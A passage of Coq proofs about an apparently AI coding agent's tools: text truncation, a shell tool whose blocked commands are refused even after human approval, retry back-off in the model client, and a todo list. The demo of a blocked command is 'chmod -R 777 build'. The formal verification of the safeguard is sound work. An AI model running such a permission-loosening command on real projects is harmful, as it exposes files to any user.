  destruct (Ascii.eqb c sep); [discriminate|].
  destruct (Js.splitChar sep s); discriminate.
Qed.

Lemma join_cons (sep x : string) (l : list string) :
  l <> [] -> Js.join sep (x :: l) = (x ++ sep ++ Js.join sep l)%string.
Proof. destruct l; [congruence|reflexivity]. Qed.

(** Joining the pieces of a split with the separator gives the text back. *)
Lemma join_splitChar (sep : ascii) (s : string) :
  Js.join (String sep "") (Js.splitChar sep s) = s.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  cbn [Js.splitChar]. destruct (Ascii.eqb c sep) eqn:Ec.
  - apply Ascii.eqb_eq in Ec. subst c.
    rewrite join_cons by apply splitChar_nonempty. now rewrite IH.
  - pose proof (splitChar_nonempty sep s) as Hn.
    destruct (Js.splitChar sep s) as [|x [|y xs]]; [congruence| |].
    + simpl in *. now rewrite IH.
    + rewrite join_cons in IH by discriminate.
      rewrite join_cons by discriminate. rewrite <- IH. now rewrite append_cons.
Qed.

(** The first lines of a text, joined, are a prefix of the joined lines. *)
Lemma join_firstn_prefix (sep : string) (l : list string) (k : nat) :
  exists rest, Js.join sep l = (Js.join sep (List.firstn k l) ++ rest)%string.
Proof.
  revert k. induction l as [|x l IH]; intros k.
  - exists "". now destruct k.
  - destruct k as [|k]; [now exists (Js.join sep (x :: l))|].
    cbn [List.firstn]. destruct l as [|y l].
    + exists "". destruct k; simpl; now rewrite append_nil_r.
    + destruct (IH k) as (rest & E).
      rewrite join_cons by discriminate. rewrite E.
      destruct (List.firstn k (y :: l)) as [|z zs] eqn:Ek.
      * exists (sep ++ Js.join sep [] ++ rest)%string. reflexivity.
      * exists rest. rewrite (join_cons sep x (z :: zs)) by discriminate.
        now rewrite !append_assoc.
Qed.

End LineFacts.
Section TruncationClaims.
Import Context Text.
Context `{Env}.

Lemma lineTokens_cons (model line : string) (lines : list string) :
  lineTokens model (line :: lines)
  = (countText (line ++ Js.nl) model + lineTokens model lines)%N.
Proof. reflexivity. Qed.

(** The loop over the lines keeps the longest run of first lines whose
    accumulated count stays within the target. *)
Lemma takeLines_prefix (model : string) (targetTokens : Z) (lines : list string) :
  forall current,
    exists k,
      k <= List.length lines
      /\ takeLines model lines targetTokens current = List.firstn k lines
      /\ (0 < k ->
          (Z.of_N (current + lineTokens model (List.firstn k lines)) <= targetTokens)%Z)
      /\ (k < List.length lines ->
          (targetTokens
           < Z.of_N (current + lineTokens model (List.firstn (S k) lines)))%Z).
Proof.
  induction lines as [|line lines IH]; intros current.
  - exists 0. simpl. repeat split; lia.
  - cbn [takeLines]. cbv zeta.
    destruct (targetTokens <? _)%Z eqn:Et.
    + apply Z.ltb_lt in Et. exists 0. simpl. split; [lia|]. split; [reflexivity|].
      split; [lia|]. intros _. rewrite lineTokens_cons.
      unfold lineTokens at 1. simpl. unfold sumN. simpl. lia.
    + apply Z.ltb_ge in Et.
      destruct (IH (current + countText (line ++ Js.nl) model)%N)
        as (k & Lk & Ek & Hin & Hout).
      exists (S k). simpl. split; [lia|]. split; [now rewrite Ek|]. split.
      * intros _. rewrite lineTokens_cons. destruct k as [|k].
        -- simpl. unfold lineTokens, sumN. simpl. lia.
        -- specialize (Hin ltac:(lia)). lia.
      * intros Lt. specialize (Hout ltac:(lia)).
        rewrite lineTokens_cons. lia.
Qed.

(** X17: [truncateByLines] keeps whole lines.  It keeps the longest run of
    first lines of the text whose token counts (each line counted with its
    line break) add up to at most the target, joins them and appends the
    suffix; the line after the last one kept would exceed the target.  When
    not even the first line fits, it falls back to [truncateByChars]. *)
Theorem lines_are_kept_whole (text suffix model : string) (targetTokens : Z) :
  let lines := Js.splitChar Js.lf text in
  exists k,
    k <= List.length lines
    /\ takeLines model lines targetTokens 0 = List.firstn k lines
    /\ (k = 0 -> truncateByLines text targetTokens suffix model
                 = truncateByChars text targetTokens suffix model)
    /\ (0 < k ->
        truncateByLines text targetTokens suffix model
        = (Js.join Js.nl (List.firstn k lines) ++ suffix)%string
        /\ (Z.of_N (lineTokens model (List.firstn k lines)) <= targetTokens)%Z)
    /\ (k < List.length lines ->
        (targetTokens < Z.of_N (lineTokens model (List.firstn (S k) lines)))%Z).
Proof.
  cbv zeta.
  destruct (takeLines_prefix model targetTokens (Js.splitChar Js.lf text) 0%N)
    as (k & Lk & Ek & Hin & Hout).
  exists k. split; [exact Lk|]. split; [exact Ek|]. unfold truncateByLines. rewrite Ek.
  split; [|split].
  - now intros ->.
  - intros Hk. split; [|now apply Hin].
    destruct k as [|k]; [lia|].
    pose proof (splitChar_nonempty Js.lf text) as Hn.
    destruct (Js.splitChar Js.lf text) as [|l ls]; [congruence|]. reflexivity.
  - exact Hout.
Qed.

(** X18: what [truncateText] returns.  A text within the limit is returned
    unchanged.  Otherwise, when the suffix alone uses up the limit the
    result is the trimmed suffix; and when it does not, the result is a
    prefix of the text (whole lines when lines are preserved and the first
    line fits) followed by the suffix. *)
Theorem truncated_text_is_a_prefix_with_the_suffix
    (text model suffix : string) (maxTokens : Z) (preserveLines : bool) :
  ((Z.of_N (countText text model) <= maxTokens)%Z ->
   truncateText text model maxTokens suffix preserveLines = text)
  /\ ((maxTokens < Z.of_N (countText text model))%Z ->
      ((maxTokens <= Z.of_N (countText suffix model))%Z ->
       truncateText text model maxTokens suffix preserveLines = Js.trim suffix)
      /\ ((Z.of_N (countText suffix model) < maxTokens)%Z ->
          exists kept rest,
            truncateText text model maxTokens suffix preserveLines
            = (kept ++ suffix)%string
            /\ text = (kept ++ rest)%string)).
Proof.
  unfold truncateText. split.
  - intros L. apply Z.leb_le in L. now rewrite L.
  - intros G. apply Z.leb_gt in G. rewrite G. cbv zeta. split.
    + intros L. replace (_ <=? 0)%Z with true; [reflexivity|].
      symmetry. apply Z.leb_le. lia.
    + intros L. replace (_ <=? 0)%Z with false by (symmetry; apply Z.leb_gt; lia).
      set (target := (maxTokens - Z.of_N (countText suffix model))%Z).
      assert (C : exists kept rest,
                 truncateByChars text target suffix model = (kept ++ suffix)%string
                 /\ text = (kept ++ rest)%string).
      { unfold truncateByChars.
        destruct (searchLoop _ _ _ _) as [low high].
        destruct (substring_prefix low text) as (rest & Er).
        now exists (String.substring 0 low text), rest. }
      destruct preserveLines; [|exact C].
      unfold truncateByLines.
      destruct (takeLines_prefix model target (Js.splitChar Js.lf text) 0%N)
        as (k & _ & Ek & _).
      rewrite Ek.
      destruct (List.firstn k (Js.splitChar Js.lf text)) as [|l ls] eqn:Ef; [exact C|].
      destruct (join_firstn_prefix Js.nl (Js.splitChar Js.lf text) k) as (rest & Er).
      rewrite Ef in Er. exists (Js.join Js.nl (l :: ls)), rest.
      split; [reflexivity|]. rewrite <- Er. symmetry. apply join_splitChar.
Qed.

End TruncationClaims.

Section TruncationExamples.
#[local] Existing Instance Examples.demoEnv.
Import Context Text.

(** With the demo tokenizer, which counts characters: a limit of twenty
    tokens keeps the first of three lines; without line preservation it
    keeps sixteen characters. *)
Lemma truncation_examples :
  truncateText ("line one" ++ Js.nl ++ "line two" ++ Js.nl ++ "line three") "gpt-4" 20
    (Js.nl ++ "...") true
  = ("line one" ++ Js.nl ++ "...")%string
  /\ truncateText ("line one" ++ Js.nl ++ "line two" ++ Js.nl ++ "line three") "gpt-4" 20
       (Js.nl ++ "...") false
     = ("line one" ++ Js.nl ++ "line tw" ++ Js.nl ++ "...")%string
  /\ truncateText "short" "gpt-4" 20 (Js.nl ++ "...") true = "short".
Proof. repeat split; now vm_compute. Qed.

End TruncationExamples.

(** ** The shell tool: blocked commands, confirmation and results *)

Section IncludesFacts.
Import Shell.

Lemma includes_unfold (s sub : string) :
  Js.includes s sub
  = Js.startsWith s sub
    || match s with EmptyString => false | String _ s' => Js.includes s' sub end.
Proof. now destruct s. Qed.

Lemma includes_trimStart (s b : string) :
  headSolid b = true -> Js.includes (Js.trimStart s) b = Js.includes s b.
Proof.
  intros Hb. destruct b as [|d b]; [discriminate|]. simpl in Hb.
  induction s as [|c s IH]; [reflexivity|].
  cbn [Js.trimStart]. destruct (Js.isWhiteSpace c) eqn:W; [|reflexivity].
  rewrite IH. rewrite (includes_unfold (String c s)). cbn [Js.startsWith].
  destruct (Ascii.eqb_spec d c) as [->|]; [|reflexivity].
  now rewrite W in Hb.
Qed.

Lemma startsWith_trimEnd (s b : string) :
  lastSolid b = true -> Js.startsWith (Js.trimEnd s) b = Js.startsWith s b.
Proof.
  revert b. induction s as [|c s IH]; intros b Hb; [reflexivity|].
  destruct b as [|d b]; [discriminate|].
  cbn [Js.trimEnd]. destruct b as [|d' b].
  - simpl in Hb. destruct (Js.trimEnd s) as [|t ts].
    + destruct (Js.isWhiteSpace c) eqn:W; cbn [Js.startsWith].
      * destruct (Ascii.eqb_spec d c) as [->|]; [|reflexivity]. now rewrite W in Hb.
      * now destruct s.
    + now destruct s.
  - assert (Hb' : lastSolid (String d' b) = true) by exact Hb.
    specialize (IH _ Hb'). cbn [Js.startsWith] in *.
    destruct (Js.trimEnd s) as [|t ts] eqn:Et.
    + rewrite <- IH. destruct (Js.isWhiteSpace c); cbn [Js.startsWith];
        now rewrite ?andb_false_r.
    + cbn [Js.startsWith]. now rewrite <- IH.
Qed.

Lemma includes_trimEnd (s b : string) :
  lastSolid b = true -> Js.includes (Js.trimEnd s) b = Js.includes s b.
Proof.
  intros Hb. induction s as [|c s IH]; [reflexivity|].
  rewrite (includes_unfold (String c s)), <- IH.
  rewrite <- (startsWith_trimEnd (String c s) b Hb).
  rewrite (includes_unfold (Js.trimEnd (String c s))).
  f_equal. cbn [Js.trimEnd].
  destruct b as [|d b]; [discriminate|].
  destruct (Js.trimEnd s) as [|t ts] eqn:Et.
  - destruct (Js.isWhiteSpace c); reflexivity.
  - reflexivity.
Qed.

(** A string that begins and ends with a character [trim] keeps occurs in
    a trimmed text exactly when it occurs in the text. *)
Lemma includes_trim (s b : string) :
  headSolid b = true -> lastSolid b = true ->
  Js.includes (Js.trim s) b = Js.includes s b.
Proof.
  intros Hh Hl. unfold Js.trim.
  now rewrite (includes_trimEnd _ _ Hl), (includes_trimStart _ _ Hh).
Qed.

Lemma isBlocked_trim (command : string) :
  Shell.isBlocked (Js.trim command) = Shell.isBlocked command.
Proof.
  unfold Shell.isBlocked.
  assert (S : Forall (fun b => headSolid b = true /\ lastSolid b = true)
                Shell.BLOCKED_COMMANDS).
  { repeat constructor. }
  induction S as [|b bs [Hh Hl] _ IH]; [reflexivity|].
  simpl. now rewrite IH, (includes_trim _ _ Hh Hl).
Qed.

End IncludesFacts.

Section ShellClaims.
Import ToolBase Data Eff Hooks Approval Registry Shell.
Context `{Env}.
Variable existsSync : string -> Ext -> bool.
Variable spawn : string -> string -> Js.Value -> M Ext Outcome.

Lemma blocked_is_nonempty (command : string) :
  isBlocked command = true -> Js.truthyStr command = true.
Proof. now destruct command. Qed.

(** The approval decision on the descriptor of the shell tool. *)
Lemma shell_decision (am : ApprovalManager Callback) (params : Params) (command : string) :
  checkApproval (Path.resolve procCwd) am
    (contextOf (ShellTool existsSync spawn) "shell" params
       (shellConfirmation params command)) = NEEDS_CONFIRMATION
  <-> (approvalPolicy am = ON_REQUEST \/ approvalPolicy am = AUTO_EDIT)
      /\ isBlocked command = true
      /\ isDangerousCommand command = false
      /\ isSafeCommand command = false.
Proof.
  unfold checkApproval, contextOf, commandVerdict, assessCommandSafety, shellConfirmation.
  destruct (isBlocked command) eqn:B; cbn -[isDangerousCommand isSafeCommand].
  - rewrite (blocked_is_nonempty _ B).
    destruct (approvalPolicy am), (isDangerousCommand command), (isSafeCommand command);
      cbn; intuition congruence.
  - destruct (Js.truthyStr command);
    destruct (approvalPolicy am), (isDangerousCommand command), (isSafeCommand command);
      cbn; intuition congruence.
Qed.

(** X19: the danger flag of the shell tool's confirmation descriptor and
    the refusal of [execute] single out the same commands, those in which a
    blocked string occurs (before or after trimming, which makes no
    difference).  Such a command is described as blocked, and [execute]
    returns the blocked-for-safety error on it without consulting the file
    system or starting a child; any other command is described plainly and
    is not flagged. *)
Theorem flagged_commands_are_the_refused_ones
    (params : Params) (invocationCwd command : string) :
  (isDangerous (shellConfirmation params command) = Some true
   <-> isBlocked (Js.trim command) = true)
  /\ (isBlocked (Js.trim command) = true ->
      description (shellConfirmation params command) = "Execute (BLOCKED): " ++ command
      /\ shellExecute existsSync spawn params invocationCwd command
         = ret (blockedResult (Js.trim command)))
  /\ (isBlocked (Js.trim command) = false ->
      isDangerous (shellConfirmation params command) = Some false
      /\ description (shellConfirmation params command) = "Execute: " ++ command).
Proof.
  unfold shellConfirmation, shellExecute. cbv zeta. rewrite !isBlocked_trim.
  destruct (isBlocked command); cbn; intuition congruence.
Qed.

Lemma shell_valid (params : Params) (command : string) :
  params !! "command" = Some (Js.VStr command) ->
  validateParams (ShellTool existsSync spawn) params = [].
Proof. intros E. unfold validateParams. simpl. now rewrite E. Qed.

(** X20: the human is never asked about a shell command that then runs.
    For a string command, [invoke] reaches the confirmation callback only
    under the policies on-request and auto-edit, and only for a command that
    contains a blocked string while matching neither a dangerous nor a safe
    pattern; whatever the human answers, the invocation then ends with the
    user-rejected error or with the blocked-for-safety error of [execute],
    so no child is started. *)
Theorem asked_shell_commands_never_run (reg : ToolRegistry) (params : Params)
    (cwd : string) (hs : HookSystem) (am : ApprovalManager Callback) (command : string) :
  get reg "shell" = Some (ShellTool existsSync spawn) ->
  params !! "command" = Some (Js.VStr command) ->
  let decision :=
    checkApproval (Path.resolve procCwd) am
      (contextOf (ShellTool existsSync spawn) "shell" params
         (shellConfirmation params command)) in
  (decision = NEEDS_CONFIRMATION
   <-> (approvalPolicy am = ON_REQUEST \/ approvalPolicy am = AUTO_EDIT)
       /\ isBlocked command = true
       /\ isDangerousCommand command = false
       /\ isSafeCommand command = false)
  /\ (decision = NEEDS_CONFIRMATION ->
      forall w result,
        fst (invoke reg "shell" params cwd hs (Some am) w) = inr result ->
        result = mkError "User rejected the operation" "" ∅
        \/ result = blockedResult (Js.trim command)).
Proof.
  intros Eg Ec decision. split; [apply shell_decision|].
  intros D w result. unfold invoke. rewrite Eg, (shell_valid _ _ Ec).
  cbn [List.length Nat.ltb Nat.leb].
  destruct (triggerBeforeTool_quiet hs "shell" params w) as (w1 & E1 & _).
  rewrite (bind_returns _ _ _ _ _ E1).
  assert (B : isBlocked (Js.trim command) = true).
  { rewrite isBlocked_trim. now apply shell_decision in D. }
  assert (X : forall e, execute (ShellTool existsSync spawn)
                          {| params := params; cwd := cwd |} e
                        = (inr (blockedResult (Js.trim command)), e)).
  { intros e. cbn [execute ShellTool ToolBase.params ToolBase.cwd].
    unfold commandOf. rewrite Ec. unfold bind, liftExc, shellExecute. cbv zeta.
    now rewrite B. }
  assert (R : forall w2 : World,
             fst (tryCatch
                    (let* result := onExt (execute (ShellTool existsSync spawn)
                                             {| params := params; cwd := cwd |}) in
                     run triggerAfterTool hs "shell" params result in
                     ret result)
                    (fun error =>
                       let result := mkError ("Internal error: " ++ error) "" ∅ in
                       run triggerAfterTool hs "shell" params result in
                       ret result) w2)
             = inr (blockedResult (Js.trim command))).
  { intros w2.
    destruct (execute_reported (ShellTool existsSync spawn) hs "shell" params
                {| params := params; cwd := cwd |} w2) as (r & w3 & E3 & _ & Er).
    rewrite E3. rewrite X in Er. now rewrite Er. }
  assert (C : forall e, getConfirmation (ShellTool existsSync spawn)
                          {| params := params; cwd := cwd |} e
                        = (inr (Some (shellConfirmation params command)), e)).
  { intros e. cbn [getConfirmation ShellTool ToolBase.params].
    unfold commandOf. now rewrite Ec. }
  set (rejected := mkError "User rejected the operation" "" ∅).
  assert (G : exists o w2,
             approvalGate (ShellTool existsSync spawn) "shell" params
               {| params := params; cwd := cwd |} hs (Some am) w1 = (o, w2)
             /\ (o = inr None \/ o = inr (Some rejected) \/ exists e, o = inl e)).
  { unfold approvalGate.
    rewrite (bind_returns _ _ _ _ _ (onExt_run _ w1 _ _ (C (ext w1)))).
    fold decision. rewrite D. unfold requestConfirmation.
    set (w1' := {| ext := ext w1; trace := trace w1 |}).
    destruct (confirmationCallback am) as [cb|].
    - destruct (cb (shellConfirmation params command) (ext w1')) as [[e|b] e2] eqn:Eb.
      + rewrite (bind_throws _ _ _ _ _ (onExt_run _ w1' _ _ Eb)). eauto 10.
      + rewrite (bind_returns _ _ _ _ _ (onExt_run _ w1' _ _ Eb)).
        destruct b; cbn [negb]; [unfold ret; eauto 10|].
        destruct (triggerAfterTool_once hs "shell" params rejected
                    {| ext := e2; trace := trace w1' |}) as (w3 & E3 & _).
        fold rejected. rewrite (bind_returns _ _ _ _ _ E3). unfold ret. eauto 10.
    - rewrite bind_ret. cbn [negb]. unfold ret. eauto 10. }
  destruct G as (o & w2 & Eo & [->|[->|[e ->]]]).
  - rewrite (bind_returns _ _ _ _ _ Eo), R. intros [= <-]. now right.
  - rewrite (bind_returns _ _ _ _ _ Eo). intros [= <-]. now left.
  - rewrite (bind_throws _ _ _ _ _ Eo). discriminate.
Qed.

End ShellClaims.

Section ShellResults.
Import ToolBase Shell.

Lemma length_append (a b : string) :
  String.length (a ++ b) = String.length a + String.length b.
Proof. induction a as [|c a IH]; [reflexivity|]. simpl. now rewrite IH. Qed.

Lemma length_substring_le (n : nat) (s : string) :
  String.length (String.substring 0 n s) <= n.
Proof.
  revert n. induction s as [|c s IH]; intros [|n]; simpl; try lia.
  specialize (IH n). lia.
Qed.

(** X21: the result of a shell command that exits.  It is a success
    exactly when the exit code is 0, and it carries an error text exactly
    when it is not a success; its output never exceeds 102400 characters
    plus the truncation note.  A child ended by a signal (no exit code)
    gives a failure whose recorded exit code is 0.  A successful child that
    printed nothing but white space gives the empty output. *)
Theorem shell_exit_results (code : option Z) (stdout stderr : string) :
  let r := exitResult code stdout stderr in
  (success r = true <-> code = Some 0%Z)
  /\ (error r = None <-> success r = true)
  /\ String.length (output r) <= MAX_OUTPUT + 23
  /\ (code = None -> success r = false /\ exitCode r = Some 0%Z)
  /\ (Js.trim stdout = "" -> Js.trim stderr = "" -> code = Some 0%Z -> output r = "").
Proof.
  cbv zeta. unfold exitResult. cbn [success error output exitCode].
  split; [|split; [|split; [|split]]].
  - destruct code as [c|]; [|split; discriminate].
    destruct (Z.eqb_spec c 0) as [->|N]; [tauto|].
    split; [discriminate|]. intros [= ->]. contradiction.
  - destruct code as [c|]; [destruct (c =? 0)%Z|]; split; congruence.
  - match goal with |- context [(MAX_OUTPUT <? String.length ?o)%nat] =>
      generalize o end. intros o.
    destruct (Nat.ltb_spec MAX_OUTPUT (String.length o)) as [L|L]; [|lia].
    rewrite length_append.
    pose proof (length_substring_le MAX_OUTPUT o) as S.
    change (String.length (Js.nl ++ "... [output truncated]")) with 23. lia.
  - intros ->. now split.
  - intros -> -> ->. reflexivity.
Qed.

End ShellResults.

Section ShellWitness.
#[local] Existing Instance Examples.demoEnv.
Import ToolBase Data Eff Hooks Approval Registry Shell Examples ShellExamples.

(** Under policy on-request [chmod -R 777 build] is put to the human as a
    blocked command, and whatever the answer it is not run. *)
Lemma asked_shell_commands_never_run_witness :
  let params : Params := {[ "command" := Js.VStr "chmod -R 777 build" ]} in
  (checkApproval (Path.resolve procCwd) (approving ON_REQUEST)
     (contextOf demoShell "shell" params (shellConfirmation params "chmod -R 777 build"))
   = NEEDS_CONFIRMATION)
  /\ forall result,
       fst (invoke shellRegistry "shell" params "/home/user/project" noHooks
              (Some (approving ON_REQUEST)) startWorld) = inr result ->
       result = mkError "User rejected the operation" "" ∅
       \/ result = blockedResult (Js.trim "chmod -R 777 build").
Proof.
  cbv zeta.
  assert (D : checkApproval (Path.resolve procCwd) (approving ON_REQUEST)
                (contextOf demoShell "shell" {[ "command" := Js.VStr "chmod -R 777 build" ]}
                   (shellConfirmation {[ "command" := Js.VStr "chmod -R 777 build" ]}
                      "chmod -R 777 build"))
              = NEEDS_CONFIRMATION) by now vm_compute.
  split; [exact D|].
  exact (proj2 (@asked_shell_commands_never_run demoEnv alwaysThere quietChild
                  shellRegistry {[ "command" := Js.VStr "chmod -R 777 build" ]}
                  "/home/user/project" noHooks (approving ON_REQUEST)
                  "chmod -R 777 build" eq_refl eq_refl) D startWorld).
Defined.

(** Approving that command ends in the refusal of [execute]; [npm install]
    runs without anyone being asked; a failing child. *)
Lemma shell_examples :
  let params : Params := {[ "command" := Js.VStr "npm install" ]} in
  fst (invoke shellRegistry "shell" {[ "command" := Js.VStr "chmod -R 777 build" ]}
         "/home/user/project" noHooks (Some (approving ON_REQUEST)) startWorld)
  = inr (blockedResult "chmod -R 777 build")
  /\ checkApproval (Path.resolve procCwd) (approving ON_REQUEST)
    (contextOf demoShell "shell" params (shellConfirmation params "npm install"))
  = APPROVED
  /\ fst (invoke shellRegistry "shell" params "/home/user/project" noHooks
            (Some (approving ON_REQUEST)) startWorld)
     = inr (exitResult (Some 0%Z) "done" "")
  /\ output (exitResult (Some 2%Z) "" ("make: no rule" ++ Js.nl))
     = Js.nl ++ "--- stderr ---" ++ Js.nl ++ "make: no rule" ++ Js.nl ++ "Exit code: 2".
Proof. cbv zeta. repeat split; now vm_compute. Qed.

End ShellWitness.

(** ** The model client: retries *)

Section RetryFacts.
Import Data Client.
Context `{Env}.
Variable attempt : Ext -> Stream * Ext.
Variable pause : N -> Ext -> Ext.

(** The loop from any attempt on, for any bound on the retries. *)
Lemma retryLoop_runs (bound fuel attemptNo : nat) (w : Wire) :
  attemptNo <= bound -> bound < attemptNo + fuel ->
  exists responses last,
    retryLoop attempt pause bound fuel attemptNo w
    = ((List.concat (List.map events responses) ++ events last ++ closing last)%list,
       {| wireExt := wireExt (snd (retryLoop attempt pause bound fuel attemptNo w));
          calls := (calls w ++ schedule attemptNo (responses ++ [last]))%list |})
    /\ Forall failed responses
    /\ attemptNo + List.length responses <= bound
    /\ (failed last -> attemptNo + List.length responses = bound).
Proof.
  revert attemptNo w. induction fuel as [|fuel IH]; intros a w La Lf; [lia|].
  cbn [retryLoop]. destruct (Nat.leb_spec a bound) as [_|]; [|lia].
  unfold request. destruct (attempt (wireExt w)) as [response e1].
  destruct (thrown response) as [message|] eqn:Et.
  - destruct (Nat.ltb_spec a bound) as [Lt|Ge].
    + set (w1 := sleep pause _ _).
      destruct (IH (S a) w1 ltac:(lia) ltac:(lia)) as (rs & l & E & F & Lb & Hl).
      destruct (retryLoop attempt pause bound fuel (S a) w1) as [later w2].
      injection E as -> E2. cbn [snd] in *.
      exists (response :: rs), l. split; [|split; [|split]].
      * cbn [List.map List.concat snd]. rewrite <- !app_assoc. f_equal.
        rewrite E2. cbn [wireExt calls]. f_equal. unfold w1, sleep. cbn [calls].
        rewrite <- !app_assoc. f_equal. cbn [app schedule].
        destruct (rs ++ [l])%list eqn:Er; [now destruct rs|reflexivity].
      * constructor; [|exact F]. unfold failed. congruence.
      * cbn [List.length]. lia.
      * intros Fl. cbn [List.length]. specialize (Hl Fl). lia.
    + exists [], response. split; [|split; [|split]].
      * cbn [List.concat List.map app snd wireExt calls schedule]. unfold closing.
        now rewrite Et.
      * constructor.
      * cbn [List.length]. lia.
      * intros _. cbn [List.length]. lia.
  - exists [], response. split; [|split; [|split]].
    + cbn [List.concat List.map app snd wireExt calls schedule]. unfold closing.
      rewrite Et. now rewrite app_nil_r.
    + constructor.
    + cbn [List.length]. lia.
    + unfold failed. congruence.
Qed.

(** X22: the retry protocol of [chatCompletion].  Unless the client
    cannot be built, in which case the generator throws before any request,
    the generator never throws: it sends at most four requests, pausing
    1000, 2000 and 4000 ms after the first, second and third failure, and
    stops at the first request that succeeds.  What failed requests yielded
    before failing stays in the stream, followed by what the last request
    yielded; when the fourth request fails too, an error event with its
    message closes the stream. *)
Theorem retries_back_off_and_keep_partial_events (client : Js.Exc unit) (w : Wire) :
  let (stream, w') := chatCompletion attempt pause client w in
  match client with
  | inl error => stream = {| events := []; thrown := Some error |} /\ w' = w
  | inr _ =>
      thrown stream = None
      /\ exists responses last,
           calls w' = (calls w ++ schedule 0 (responses ++ [last]))%list
           /\ List.length responses <= 3
           /\ Forall failed responses
           /\ (failed last -> List.length responses = 3)
           /\ events stream
              = (List.concat (List.map events responses) ++ events last ++ closing last)%list
  end.
Proof.
  unfold chatCompletion. destruct client as [error|[]]; [now split|].
  destruct (retryLoop_runs maxRetries (maxRetries + 2) 0 w ltac:(lia)
              ltac:(unfold maxRetries; lia)) as (rs & l & E & F & Lb & Hl).
  destruct (retryLoop attempt pause maxRetries (maxRetries + 2) 0 w) as [yielded w'].
  injection E as -> ->. split; [reflexivity|].
  exists rs, l. unfold maxRetries in *. cbn [calls events]. repeat split; auto; lia.
Qed.

End RetryFacts.

Section RetryExamples.
#[local] Existing Instance Examples.demoEnv.
Import Data Client.

(** A provider that always breaks off after one text delta: the consumer
    receives the delta four times, then the error event, and the client has
    paused 1000, 2000 and 4000 ms between the requests. *)
Lemma retry_examples :
  let delta := {| evType := TEXT_DELTA; textDelta := Some "Hel"; evError := None;
                  toolCall := None; usage := None |} in
  let broken := {| events := [delta]; thrown := Some "socket hang up" |} in
  let outcome := chatCompletion (fun e => (broken, S e)) (fun _ e => e) (inr tt)
               {| wireExt := 0; calls := [] |} in
  events (fst outcome) = [delta; delta; delta; delta; errorEvent "socket hang up"]
  /\ calls (snd outcome)
     = [Requested broken; Slept 1000; Requested broken; Slept 2000;
        Requested broken; Slept 4000; Requested broken].
Proof. cbv zeta. split; now vm_compute. Qed.

End RetryExamples.

(** ** The todos tool: a list that keeps what it is given *)

Section TodoFacts.
Import ToolBase Todos.

Lemma mapGet_mapSet_same (key value : string) (todos : Store) :
  mapGet key (mapSet key value todos) = Some value.
Proof.
  unfold mapGet. induction todos as [|[k v] rest IH]; simpl.
  - now rewrite String.eqb_refl.
  - destruct (String.eqb k key) eqn:E; simpl.
    + now rewrite String.eqb_refl.
    + now rewrite E.
Qed.

Lemma mapGet_mapSet_other (key other value : string) (todos : Store) :
  key <> other -> mapGet other (mapSet key value todos) = mapGet other todos.
Proof.
  intros N. unfold mapGet. induction todos as [|[k v] rest IH]; simpl.
  - apply String.eqb_neq in N. now rewrite N.
  - destruct (String.eqb_spec k key) as [->|Nk]; simpl.
    + apply String.eqb_neq in N. now rewrite N.
    + destruct (String.eqb k other); [reflexivity|exact IH].
Qed.

Lemma mapGet_mapDelete_same (key : string) (todos : Store) :
  mapGet key (mapDelete key todos) = None.
Proof.
  unfold mapGet, mapDelete. induction todos as [|[k v] rest IH]; simpl; [reflexivity|].
  destruct (String.eqb k key) eqn:E; simpl; [exact IH|]. now rewrite E.
Qed.

Lemma mapGet_mapDelete_other (key other : string) (todos : Store) :
  key <> other -> mapGet other (mapDelete key todos) = mapGet other todos.
Proof.
  intros N. unfold mapGet, mapDelete. induction todos as [|[k v] rest IH]; simpl; [reflexivity|].
  destruct (String.eqb_spec k key) as [->|Nk]; simpl.
  - apply String.eqb_neq in N. now rewrite N.
  - destruct (String.eqb k other); [reflexivity|exact IH].
Qed.

(** A call that does not touch an id leaves its entry as it is. *)
Lemma untouched_entry (key : string) (call : Call) (todos : Store) :
  touches key call = false ->
  mapGet key (snd (execute (fst call) (snd call) todos)) = mapGet key todos.
Proof.
  destruct call as [params uuid]. unfold touches, execute. cbn [fst snd].
  destruct (String.eqb (Js.toLowerCase (action params)) "add") eqn:Ea.
  - destruct (String.eqb_spec (Js.toLowerCase (action params)) "add") as [->|]; [|discriminate].
    cbn. intros T. apply String.eqb_neq in T.
    destruct (content params) as [text|]; [|reflexivity].
    destruct (Js.truthyStr text); [|reflexivity].
    cbn [snd]. now apply mapGet_mapSet_other.
  - destruct (String.eqb (Js.toLowerCase (action params)) "complete") eqn:Ec.
    + destruct (String.eqb_spec (Js.toLowerCase (action params)) "complete") as [->|];
        [|discriminate].
      cbn. rewrite orb_false_r. intros T. apply bool_decide_eq_false in T.
      destruct (id params) as [k|]; [|reflexivity].
      destruct (Js.truthyStr k); [|reflexivity].
      destruct (mapGet k todos); [|reflexivity].
      cbn [snd]. apply mapGet_mapDelete_other. congruence.
    + destruct (String.eqb (Js.toLowerCase (action params)) "list") eqn:El.
      * intros _. now destruct (List.length todos =? 0)%nat.
      * destruct (String.eqb (Js.toLowerCase (action params)) "clear"); [discriminate|].
        reflexivity.
Qed.

Lemma untouched_entries (key : string) (calls : list Call) (todos : Store) :
  Forall (fun call => touches key call = false) calls ->
  mapGet key (executeAll calls todos) = mapGet key todos.
Proof.
  intros F. revert todos. induction F as [|call calls T _ IH]; intros todos; [reflexivity|].
  unfold executeAll in *. cbn [List.fold_left]. rewrite IH. now apply untouched_entry.
Qed.

(** X23: a todo stays until it is completed.  After a successful [add],
    whatever calls follow that neither clear the list, nor complete the new
    id, nor add under the same id, [complete] with that id succeeds, quotes
    the text that was added and removes the entry, so that completing it a
    second time fails with 'Todo not found'. *)
Theorem added_todo_stays_until_completed (text uuid : string) (calls : list Call)
    (todos : Store) :
  text <> "" ->
  String.substring 0 8 uuid <> "" ->
  Forall (fun call => touches (String.substring 0 8 uuid) call = false) calls ->
  let key := String.substring 0 8 uuid in
  let completing := {| action := "complete"; id := Some key; content := None |} in
  let added := execute (fst (addCall text uuid)) uuid todos in
  let later := executeAll calls (snd added) in
  fst added = mkSuccess ("Added todo [" ++ key ++ "]: " ++ text)
  /\ forall drawn,
       execute completing drawn later
       = (mkSuccess ("Completed todo [" ++ key ++ "]: " ++ text), mapDelete key later)
       /\ fst (execute completing drawn (mapDelete key later))
          = mkError ("Todo not found: " ++ key) "" ∅.
Proof.
  intros Nt Nk F key completing added later.
  assert (Tt : Js.truthyStr text = true) by now destruct text.
  assert (Tk : Js.truthyStr key = true) by (unfold key; now destruct (String.substring 0 8 uuid)).
  assert (Ea : added = (mkSuccess ("Added todo [" ++ key ++ "]: " ++ text),
                        mapSet key text todos)).
